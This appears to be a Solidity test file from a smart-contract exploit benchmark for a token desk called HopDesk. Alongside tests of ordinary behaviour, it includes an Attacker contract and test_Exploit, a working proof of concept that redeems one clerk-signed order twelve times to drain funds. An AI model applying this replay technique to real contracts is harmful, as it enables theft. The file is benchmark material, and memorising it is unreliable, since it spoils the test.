// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-70089b95-05b6-4abe-847e-065e6110cd78

import "./HopDesk.sol";

interface Vm {
    function addr(uint256 key) external returns (address);
    function sign(uint256 key, bytes32 hash) external returns (uint8 v, bytes32 r, bytes32 s);
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 timestamp) external;
}

contract Dollar is ERC20 {
    constructor() ERC20("Dollar", "USD") {
        _mint(msg.sender, 1_000_000e6);
    }

    function decimals() public pure override returns (uint8) {
        return 6;
    }
}

/// A supplier who was sent one order.
contract Attacker {
    HopDesk private desk;
    HopDesk.Order private order;
    bytes private sig;

    function receiveOrder(HopDesk d, HopDesk.Order calldata o, bytes calldata s) external {
        desk = d;
        order = o;
        sig = s;
    }

    function bring(uint256 times) external {
        for (; times > 0; times--) {
            desk.redeem(order, sig);
        }
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_770_000_000;
    uint256 private constant BREWER = 0xB4E;
    uint256 private constant CLERK = 0xC1E;
    uint256 private constant OTHER = 0x07E;
    address private constant FARM = address(0xFA43);

    Dollar public usd;
    HopDesk public desk;
    Attacker public supplier;
    address private brewer;
    address private helper;

    function setUp() public {
        vm.warp(START);
        usd = new Dollar();
        desk = new HopDesk(usd);
        brewer = vm.addr(BREWER);
        helper = vm.addr(CLERK);
        usd.transfer(brewer, 100_000e6);
        vm.startPrank(brewer);
        usd.approve(address(desk), type(uint256).max);
        desk.setClerk(helper, true);
        vm.stopPrank();
        _issue(HopDesk.Order(brewer, brewer, 60_000e6, 1, START));
        supplier = new Attacker();
        HopDesk.Order memory o = HopDesk.Order(brewer, address(supplier), 4_000e6, 2, START + 7 days);
        supplier.receiveOrder(desk, o, _sign(CLERK, desk.REDEEM(), o));
    }

    function _sign(uint256 key, bytes32 kind, HopDesk.Order memory o) private returns (bytes memory) {
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(key, desk.hashOf(kind, o));
        return abi.encodePacked(r, s, v);
    }

    function _issue(HopDesk.Order memory o) private {
        desk.issue(o, _sign(BREWER, desk.ISSUE(), o));
    }

    function test_Regular() public {
        require(desk.balanceOf(brewer) == 60_000e6 && usd.balanceOf(address(desk)) == 60_000e6, "issued");
        HopDesk.Order memory o = HopDesk.Order(brewer, FARM, 10_000e6, 7, START);
        desk.redeem(o, _sign(BREWER, desk.REDEEM(), o));
        require(usd.balanceOf(FARM) == 10_000e6 && desk.used(brewer, 7), "redeemed");
        o = HopDesk.Order(brewer, FARM, 5_000e6, 8, START);
        desk.issue(o, _sign(CLERK, desk.ISSUE(), o));
        require(desk.balanceOf(FARM) == 5_000e6 && desk.redeemedOn(START / 1 days) == 10_000e6, "issued by the clerk");
        vm.prank(FARM);
        desk.transfer(brewer, 5_000e6);
        vm.prank(brewer);
        desk.approve(FARM, 1_000e6);
        vm.prank(FARM);
        desk.transferFrom(brewer, FARM, 1_000e6);
        vm.prank(brewer);
        desk.drop(9);
        require(desk.used(brewer, 9), "dropped");
        vm.prank(brewer);
        desk.setClerk(helper, false);
        desk.setDailyMost(1_000e6);
        vm.warp(START + 1 days);
        o = HopDesk.Order(brewer, FARM, 1_000e6, 10, START + 1 days);
        desk.redeem(o, _sign(BREWER, desk.REDEEM(), o));
        require(usd.balanceOf(FARM) == 11_000e6, "next day");
        desk.transferOwnership(FARM);
        vm.prank(FARM);
        desk.acceptOwnership();
        vm.prank(FARM);
        desk.renounceOwnership();
    }

    function test_RefusesOrders() public {
        HopDesk.Order memory o = HopDesk.Order(brewer, FARM, 1_000e6, 20, START - 1);
        bytes memory sig = _sign(BREWER, desk.REDEEM(), o);
        vm.expectRevert(abi.encodeWithSelector(HopDesk.Late.selector, START - 1));
        desk.redeem(o, sig);
        o.deadline = START;
        sig = _sign(OTHER, desk.REDEEM(), o);
        vm.expectRevert(abi.encodeWithSelector(HopDesk.NotForPayer.selector, vm.addr(OTHER)));
        desk.redeem(o, sig);
        sig = _sign(BREWER, desk.REDEEM(), o);
        desk.redeem(o, sig);
        vm.expectRevert(abi.encodeWithSelector(HopDesk.Used.selector, brewer, 20));
        desk.redeem(o, sig);
    }

    function test_RefusesMuch() public {
        HopDesk.Order memory o = HopDesk.Order(brewer, FARM, 50_000e6 + 1, 20, START);
        bytes memory sig = _sign(BREWER, desk.REDEEM(), o);
        vm.expectRevert(abi.encodeWithSignature("Error(string)", "enough for today"));
        desk.redeem(o, sig);
    }

    function test_RefusesStrangers() public {
        vm.prank(FARM);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, FARM));
        desk.setDailyMost(1);
    }

    function exploit() public {
        supplier.bring(12);
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(supplier)) >= 40_000e6, "no gain");
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(supplier);
    }
}
